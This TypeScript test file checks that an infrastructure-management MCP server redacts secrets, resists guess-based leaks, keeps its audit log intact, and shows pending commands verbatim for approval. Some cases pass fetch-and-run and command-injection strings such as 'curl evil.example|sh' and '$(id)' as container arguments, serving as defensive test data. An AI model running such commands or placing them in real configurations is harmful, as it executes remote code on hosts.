import { readFile } from 'node:fs/promises';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { auditFilesOf } from '../../../src/cli/wiring/guard.ts';
import { buildServer } from '../../../src/server/protocol/index.ts';
import { callOf, startHttpServer } from '../../../src/transport/index.ts';
import { restrictedDependencies, addReadOnly, unrestricted } from '../../../src/transport/http/restriction.ts';
import { tools } from '../../../tools/index.ts';
import { agree, failureIn, textOf, userAnswering } from '../../support/mcp-clients.ts';
import { connectModernHttp } from '../../transport/test-server.ts';
import { openGuardFixture, policyFrom } from '../../support/guard-fixture.ts';
import { startTestPlatform, type TestPlatform } from '../../support/test-platform.ts';
import { startGuardedServer, type GuardedServerOptions } from '../../support/guarded-server.ts';

type Json = Record<string, unknown>;

let platform: TestPlatform;
beforeAll(async () => {
  platform = await startTestPlatform();
});
afterAll(() => platform.close());

const opened: { close: () => Promise<unknown> }[] = [];
afterEach(async () => {
  vi.unstubAllEnvs();
  for (const one of opened.splice(0).toReversed()) await one.close();
});

/** Starts a server, and connects callers to it who agree to every question. */
async function startServer(options: GuardedServerOptions = {}) {
  const guard = await openGuardFixture();
  opened.push(guard);
  const server = await startGuardedServer(platform, { guard, ...options });
  opened.push(server);
  const as = async (principal: string, asking = false) => {
    const user = userAnswering(agree);
    const caller = await server.connect({ principal, ...(asking && { user }) });
    return { ...caller, user, text: async (name: string, args: Json) => textOf(await caller.call(name, args)) };
  };
  const audit = async (): Promise<string> => {
    await guard.settled();
    return readFile(auditFilesOf(guard.config).file, 'utf8');
  };
  return { ...server, as, audit };
}

const seed = (name: string): string => platform.seed[name]!;
const place = () => ({ application_id: seed('application_id') });

/** Arguments that mention these values as secrets, and do nothing. */
const storing = (values: readonly string[]): Json => ({
  application: seed('application_id'),
  secrets: Object.fromEntries(
    values.map((value, index) => [`S${index}_${Math.random().toString(36).slice(2)}`, value]),
  ),
  dry_run: true,
});

describe('what one caller mentions', () => {
  const words = [
    'checkout-api',
    'staging-of-the-shop',
    'https://hooks.example/in',
    'ann-9@example.com',
    'library/worker',
    'wget -q good.example | sh',
  ];

  test('changes nothing for another: neither its questions, nor its answers, nor the record of its calls', async () => {
    const { as, audit } = await startServer();
    const [ann, bob] = await Promise.all([as('ann', true), as('bob')]);
    const asks = () =>
      ann.call('restart_services', {
        environment_id: seed('environment_id'),
        application_ids: [seed('application_id')],
      });
    // The service is being restarted: its state isn't what is looked at.
    const reads = async () =>
      (await ann.text('find_resource', { name: 'checkout' })).replaceAll(/[A-Z]+ED\b|RESTART\w+/g, 'a state');
    const before = [await reads(), await asks()];
    expect(before[0]).toContain('checkout-api');
    expect(await bob.text('set_environment_variables', storing(words))).toContain('[hidden, 12 characters]');
    expect(await reads()).toBe(before[0]);
    await asks();
    expect(ann.user.questions.map(({ message }) => message).at(-1)).toContain('Restarts checkout-api');
    const entries = (await audit())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Json)
      .filter(({ who, tool, kind }) => who === 'ann' && tool === 'restart_services' && kind === 'intent');
    expect(entries).toHaveLength(2);
    expect(entries[1]!['target']).toEqual(entries[0]!['target']);
  });

  test('is hidden from itself in answers, and from nobody in what is to be agreed to', async () => {
    const { as, audit } = await startServer();
    const bob = await as('bob', true);
    await bob.call('set_environment_variables', storing(words));
    expect(await bob.text('find_resource', { name: 'checkout' })).not.toContain('checkout-api');
    await bob.call('invite_member', { email: 'ann-9@example.com' });
    await bob.call('create_webhook', { target_url: 'https://hooks.example/in', events: ['DEPLOYMENT_FAILED'] });
    await bob.call('update_container', {
      container_id: seed('container_id'),
      registry_id: seed('registry_id'),
      name: 'worker',
      image_name: 'library/worker',
      tag: '2.9',
      healthchecks: {},
      arguments: ['sh', '-c', 'wget -q good.example | sh'],
    });
    const asked = bob.user.questions.map(({ message }) => message).join('\n');
    expect(asked).toContain('email: ann-9@example.com');
    expect(asked).toContain('target_url: https://hooks.example/in');
    const planned = await bob.text('update_container', {
      container_id: seed('container_id'),
      image_name: 'library/worker',
      tag: '3.1',
      arguments: ['sh', '-c', 'wget -q good.example | sh', 'x'],
      dry_run: true,
    });
    expect(planned).toContain('image_name: library/worker');
    expect(planned).toContain('arguments: ["sh","-c","wget -q good.example | sh","x"]');
    // Nor can it keep from the operator what its calls were about.
    await bob.call('deploy_application', { application_id: seed('application_id') });
    expect(await audit()).toContain('"name":"checkout-api"');
  });

  test('is not remembered where the call was refused, and is where it was let pass', async () => {
    const { as } = await startServer({ policy: 'deny: [{ toolset: variables, project: shop, environment: staging }]' });
    const bob = await as('bob');
    const listVariables = () => bob.call('list_environment_variables', { application_id: seed('application_id') });
    expect(failureIn(await bob.call('set_environment_variables', storing(['checkout-api'])))?.kind).toBe('denied');
    expect(await bob.text('set_environment_variables', { ...storing(['checkout-api']), nonsense: 1 })).toContain(
      '"nonsense" is not known',
    );
    expect(failureIn(await listVariables())?.kind).toBe('denied');
    expect(await bob.text('find_resource', { name: 'checkout' })).toContain('checkout-api');
    const { as: freely } = await startServer();
    const free = await freely('bob');
    await free.call('set_environment_variables', storing(['checkout-api']));
    expect(await free.text('find_resource', { name: 'checkout' })).not.toContain('checkout-api');
  });

  test('is hidden while its own call runs, whatever comes of it', async () => {
    const { as } = await startServer({
      alter: (method, path, body) =>
        method === 'GET' && path.endsWith('/environmentVariable') ? { results: 'tell-nobody-of-me' } : body,
    });
    const bob = await as('bob');
    const text = await bob.text('create_secret', {
      application_id: seed('application_id'),
      key: 'not a key',
      value: 'tell-nobody-of-me',
    });
    expect(text).not.toContain('tell-nobody-of-me');
  });

  test('of nothing but space, or by the megabyte, stops nobody: not even as a key that only reads', async () => {
    const { dependencies, audit, log } = await startServer();
    const dependenciesOf = restrictedDependencies(dependencies, tools);
    const server = await startHttpServer({
      host: '127.0.0.1',
      port: 0,
      allowedHosts: [],
      allowedOrigins: [],
      holdsToken: true,
      askPlatform: async () => undefined,
      levelOf: () => 'read',
      clock: { now: Date.now },
      log,
      authenticate: async ({ headers }) => {
        const name = headers.get('authorization')!;
        return {
          principal: `key:${name}`,
          level: name === 'reader' ? 'read' : 'admin',
          restriction: name === 'reader' ? addReadOnly(unrestricted, 'keys.yaml') : unrestricted,
        };
      },
      build: (era, { restriction }) =>
        buildServer(dependenciesOf(restriction), { era, callerOf: ({ http }) => callOf(http?.authInfo).call }),
      limits: { shutdownDelay: 0, drainTime: 0 },
    });
    opened.push(server);
    const [reader, admin] = await Promise.all(
      ['reader', 'admin'].map((name) => connectModernHttp(new URL(server.url), { headers: { authorization: name } })),
    );
    opened.push(reader!, admin!);
    const values = [' '.repeat(500_000), 'x'.repeat(500_000), 'A1-'.repeat(100_000)];
    for (const env_text of values)
      expect(
        (await reader!.call('set_environment_variables', { application: seed('application_id'), env_text })).isError,
      ).toBe(true);
    for (const value of values)
      await admin!.call('create_secret', { application_id: seed('application_id'), key: 'LONG', value, dry_run: true });
    const result = await admin!.call('list_projects', {});
    expect(result.isError).toBeFalsy();
    expect(textOf(result)).toContain('shop');
    const outcomes = (await audit())
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as Json)['outcome']);
    expect(outcomes).toEqual(['denied', 'failed', 'failed', 'planned', 'planned', 'planned', 'done']);
  });
});

describe('what the configuration holds', () => {
  const value = 'of-the-operator-77';
  const policy = 'value_from_env: [DEPLOY_KEY]';

  test('stays hidden after any number of calls, after a restart, and in another process', async () => {
    vi.stubEnv('DEPLOY_KEY', value);
    const { as } = await startServer({ policy });
    const bob = await as('bob');
    const set = await bob.call('create_environment_variable', {
      ...place(),
      key: 'ORDINARY_WORD',
      value_from_env: 'DEPLOY_KEY',
    });
    expect(set.isError).toBeFalsy();
    for (let index = 0; index < 300; index += 1)
      await bob.call('create_secret', {
        ...place(),
        key: `S${index}`,
        value: `another-secret-${index}`,
        dry_run: true,
      });
    const list = await bob.text('list_environment_variables', place());
    expect(list).toContain('ORDINARY_WORD | [hidden]');
    const { as: elsewhere } = await startServer({ policy });
    expect(await (await elsewhere('ann')).text('list_environment_variables', place())).toBe(list);
    for (const text of [textOf(set), list]) expect(text).not.toContain(value);
  });

  test('is known of the policies of keys from the start', async () => {
    vi.stubEnv('DEPLOY_KEY', value);
    const { as, dependencies } = await startServer();
    const [rules] = (await policyFrom(policy)).rules!;
    restrictedDependencies(dependencies, tools)({ name: 'key', rules: [rules!] });
    expect(await (await as('ann')).text('list_environment_variables', place())).toContain('ORDINARY_WORD | [hidden]');
  });

  test('is told by the name of its variable to whoever agrees, and cannot be guessed beside it', async () => {
    vi.stubEnv('DEPLOY_KEY', value);
    const { as } = await startServer({ policy });
    const bob = await as('bob');
    const planned = (description: string) =>
      bob.text('create_environment_variable', {
        ...place(),
        key: 'K',
        value_from_env: 'DEPLOY_KEY',
        description,
        dry_run: true,
      });
    const [wrong, right] = [await planned('of-the-operator-78'), await planned(value)];
    expect(wrong).toContain('value: [hidden, from DEPLOY_KEY]');
    expect(right).toBe(wrong.replace('of-the-operator-78', value));
  });
});

const variableIn = (environment: string, key: string, value: string) => ({
  id: `${environment}-${key}`,
  key,
  value,
  scope: 'ENVIRONMENT',
  variable_type: 'VALUE',
});

/** The answers to a right guess and to a wrong one, each in the same words. */
async function toldOf(text: (guess: string) => Promise<string>, right: string): Promise<readonly string[]> {
  const wrong = `x${right.slice(1)}`;
  return Promise.all(
    [text(right), text(wrong)].map(async (said, index) => (await said).replaceAll([right, wrong][index]!, '<guess>')),
  );
}

describe('a guess is not answered', () => {
  test.each<[string, (guess: string) => readonly [tool: string, args: Json]]>([
    [
      'names of arguments',
      (guess) => [
        'list_projects',
        Object.fromEntries(
          [guess, ...Array.from({ length: 360 }, (_, index) => `guess-${index}-`)].map((name) => [name, 1]),
        ),
      ],
    ],
    ['names of things', (guess) => ['get_environment', { environment_id: `shop/${guess}` }]],
    ['parts of paths', (guess) => ['find_resource', { name: guess }]],
    [
      'what is searched in logs',
      (guess) => [
        'search_logs',
        { service: `infra://service/application/${seed('application_id')}`, text: guess, pattern: '(' },
      ],
    ],
    [
      'keys and values that are to be agreed to',
      (guess) => [
        'set_environment_variables',
        { application: seed('application_id'), variables: { A: guess, B: `${guess}.` }, dry_run: true },
      ],
    ],
    [
      'keys that are refused',
      (guess) => [
        'set_environment_variables',
        { container: seed('container_id'), variables: { [guess]: '1' }, dry_run: true },
      ],
    ],
  ])('by %s', async (_, call) => {
    const { as } = await startServer();
    const [ann, bob] = await Promise.all([as('ann'), as('bob')]);
    await bob.call('set_environment_variables', storing(['mentioned-by-bob-1']));
    for (const secret of [platform.token, 'mentioned-by-bob-1']) {
      const [right, wrong] = await toldOf((guess) => ann.text(...call(guess)), secret);
      expect(right).toBe(wrong);
      expect(right).not.toContain('[hidden]');
    }
  });

  test('by a change that would not be one', async () => {
    const secret = 'the-password-55';
    const id = seed('cluster_id');
    const { as } = await startServer({
      alter: (_, path, body) =>
        path === `/environment/${seed('environment_id')}/environmentVariable`
          ? { results: [{ id, key: 'GUESSED_PASSWORD', value: secret, scope: 'ENVIRONMENT', variable_type: 'VALUE' }] }
          : body,
    });
    const ann = await as('ann');
    await ann.call('create_environment_variable', {
      application_id: seed('application_id'),
      key: 'GUESSED_PASSWORD',
      value: secret,
    });
    const row = (
      (await ann.call('list_environment_variables', { application_id: seed('application_id') })).structuredContent as {
        results: Json[];
      }
    ).results.find(({ key }) => key === 'GUESSED_PASSWORD')!;
    expect(row['value']).toBe('[hidden]');
    const updates = await toldOf(
      (guess) =>
        ann.text('update_environment_variable', {
          environment_id: seed('environment_id'),
          environment_variable_id: id,
          value: guess,
          dry_run: true,
        }),
      secret,
    );
    expect(updates[0]).toBe(updates[1]);
    expect(updates[0]).toContain('value: [hidden, the present one] → [hidden, 15 characters]');
    const sets = await toldOf(
      (guess) =>
        ann.text('set_environment_variables', {
          application: seed('application_id'),
          variables: { GUESSED_PASSWORD: guess },
          dry_run: true,
        }),
      secret,
    );
    expect(sets[0]).toBe(sets[1]);
    expect(sets[0]).toContain('GUESSED_PASSWORD');
  });

  test('by the answer to the change itself', async () => {
    const { as } = await startServer();
    const ann = await as('ann');
    let number = 0;
    const [right, wrong] = await toldOf(async (guess) => {
      const { structuredContent } = await ann.call('create_environment_variable', {
        application_id: seed('application_id'),
        key: `ECHO_${(number += 1)}`,
        value: guess,
      });
      return String((structuredContent as Json)['value']);
    }, platform.token);
    expect([right, wrong]).toEqual(['<guess>', '<guess>']);
  });

  test('by comparing environments: what is hidden is set in both, and no more is said', async () => {
    const { as } = await startServer({
      alter: (_, path, body) => {
        // The list of both isn't altered, so it is not to be read.
        if (path === '/variable') return {};
        const [, environment] = /^\/environment\/([^/]+)\/environmentVariable$/.exec(path) ?? [];
        if (environment === undefined) return body;
        const isFirst = environment === seed('environment_id');
        return {
          results: [
            variableIn(environment, 'SAME_PASSWORD', 'hunter-22'),
            variableIn(environment, 'OTHER_PASSWORD', isFirst ? 'hunter-23' : 'hunter-24'),
            variableIn(environment, 'TOKEN_OF_SERVER', isFirst ? platform.token : 'a guess'),
            variableIn(environment, 'PLAIN', isFirst ? 'a' : 'b'),
          ],
        };
      },
    });
    const text = await (
      await as('ann')
    ).text('compare_environments', { first: 'shop/staging', second: 'shop/production' });
    expect(text).toMatch(/Set in both, and not compared, because what they hold is hidden: .*OTHER_PASSWORD/);
    for (const name of ['SAME_PASSWORD', 'OTHER_PASSWORD', 'TOKEN_OF_SERVER'])
      expect(text.match(new RegExp(name, 'g'))).toHaveLength(1);
    expect(text).toMatch(/variable \|.*PLAIN \| a \| b/);
  });

  test('by comparing environments, where one list has variables and secrets', async () => {
    const { results } = await platform.must('list_environments', { project_id: seed('project_id') });
    for (const { id, name } of results as Json[])
      await platform.must('create_variable_of_environment', {
        environment_id: id,
        key: 'LIST_PASSWORD',
        value: `hunter of ${String(name)}`,
      });
    const { as } = await startServer({});
    const text = await (
      await as('ann')
    ).text('compare_environments', { first: 'shop/staging', second: 'shop/production' });
    expect(text).toMatch(/not compared, because what they hold is hidden: .*LIST_PASSWORD/);
    expect(text).not.toContain('hunter of');
  });
});

describe('what is to be agreed to is shown as it will be sent', () => {
  test.each([
    ['--token=$(curl evil.example|sh)'],
    ['-----BEGIN PRIVATE KEY-----; curl evil.example|sh'],
    ['https://u:$(id)@evil.example/x'],
    ['PASSWORD=x;curl evil.example|sh'],
    ['--password'],
    ['curl evil.example|sh'],
  ])('also %j, which looks like a secret', async (payload) => {
    const { as } = await startServer();
    const planned = await (
      await as('ann')
    ).text('update_container', {
      container_id: seed('container_id'),
      arguments: ['sh', '-c', '--password', payload],
      dry_run: true,
    });
    expect(planned).toContain(`arguments: ${JSON.stringify(['sh', '-c', '--password', payload])}`);
  });

  test('also a word in the form of a key', async () => {
    const { as } = await startServer();
    const command = ['sh', '-c', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.curl-evil', `ghp_${'a1'.repeat(18)}`];
    expect(
      await (
        await as('ann')
      ).text('update_container', { container_id: seed('container_id'), arguments: command, dry_run: true }),
    ).toContain(`arguments: ${JSON.stringify(command)}`);
  });

  test('but for what is declared secret or has a telling name: of that its length', async () => {
    const { as } = await startServer();
    const ann = await as('ann');
    const webhook = await ann.text('create_webhook', {
      target_url: 'https://me:pass-55@hooks.example/in',
      target_secret: 'abcdefgh',
      events: ['DEPLOYMENT_FAILED'],
      dry_run: true,
    });
    expect(webhook).toContain('target_secret: [hidden, 8 characters]');
    expect(webhook).toContain('target_url: https://[hidden, 10 characters]@hooks.example/in');
    const variable = await ann.text('create_environment_variable', {
      application_id: seed('application_id'),
      key: 'DB_PASSWORD',
      value: 'hunter2',
      dry_run: true,
    });
    expect(variable).toContain('value: [hidden, 7 characters]');
    // What could be a program is shown, whatever its name.
    expect(
      await ann.text('create_environment_variable', {
        application_id: seed('application_id'),
        key: 'DB_PASSWORD',
        value: 'curl|sh',
        dry_run: true,
      }),
    ).toContain('value: curl|sh');
  });

  test('beside what the platform holds, which is hidden as ever', async () => {
    const { as } = await startServer({
      alter: (method, path, body) =>
        method === 'GET' && /^\/container\/[^/]+$/.test(path)
          ? { ...(body as Json), arguments: ['--token', 'kept-token-1', `url=${platform.token}`] }
          : body,
    });
    const planned = await (
      await as('ann')
    ).text('update_container', { container_id: seed('container_id'), arguments: ['serve'], dry_run: true });
    expect(planned).not.toMatch(new RegExp(`kept-token-1|${platform.token}`));
    expect(planned).toContain('[hidden, the present one]');
    const other = await (
      await as('ann')
    ).text('update_container', { container_id: seed('container_id'), tag: '9.9', dry_run: true });
    expect(other).not.toMatch(/kept-token-1|arguments: \[/);
  });
});

describe('colours and what nobody sees', () => {
  test('keep no secret from being hidden, whichever way it goes out', async () => {
    const dressed = `${platform.token.slice(0, 3)}\u001B[31m${platform.token.slice(3, 9)}\u200B${platform.token.slice(9)}`;
    const { as, audit, log } = await startServer({
      alter: (method, path, body) => {
        if (path.endsWith('/deploy')) return body;
        const json = body as Json;
        if (method !== 'GET') return json;
        const named = (one: unknown) => ({ ...(one as Json), name: `n ${dressed}`, [dressed]: dressed });
        return Array.isArray(json['results']) ? { ...json, results: json['results'].map(named) } : named(json);
      },
    });
    const ann = await as('ann', true);
    const outputs: unknown[] = [];
    for (const [name, args] of [
      ['list_projects', {}],
      ['get_service', { service: `infra://service/application/${seed('application_id')}` }],
      ['get_environment', { environment_id: 'shop/nothing' }],
      ['restart_services', { environment_id: seed('environment_id') }],
      ['stop_environment', { environment_id: seed('environment_id'), dry_run: true }],
    ] as const) {
      outputs.push(await ann.call(name, args));
    }
    outputs.push(await ann.client.readResource({ uri: 'infra://projects' }).catch((error: unknown) => String(error)));
    outputs.push(
      await ann.client
        .complete({
          ref: { type: 'ref/resource', uri: 'infra://project/{project}' },
          argument: { name: 'project', value: '' },
        })
        .catch((error: unknown) => String(error)),
    );
    outputs.push(ann.user.questions, await audit(), log.lines);
    const text = JSON.stringify(outputs);
    expect(text).toContain('[hidden');
    for (const shown of [text, text.replaceAll(/<U\+[0-9A-F]+>/g, ''), text.replaceAll(String.raw`\u001b[31m`, '')])
      expect(shown).not.toContain(platform.token);
  });
});
